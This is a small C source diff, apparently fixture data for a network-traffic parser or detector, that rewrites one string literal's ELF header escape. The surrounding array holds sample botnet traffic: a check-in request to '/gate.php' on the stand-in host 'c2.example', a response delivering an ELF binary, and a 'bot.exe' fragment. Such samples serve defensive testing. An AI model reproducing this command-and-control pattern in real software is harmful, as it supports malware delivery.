@@ -33,8 +33,7 @@ struct program {
 static const char contents[][64] = {
 	"",
 	"GET /gate.php HTTP/1.1\r\nHost: c2.example\r\n\r\n",
-	"HTTP/1.1 200 OK\r\n\r\n\x7f"
-	"ELF",
+	"HTTP/1.1 200 OK\r\n\r\n\177ELF",
 	"\0\1bot.exe\0octet",
 };
 
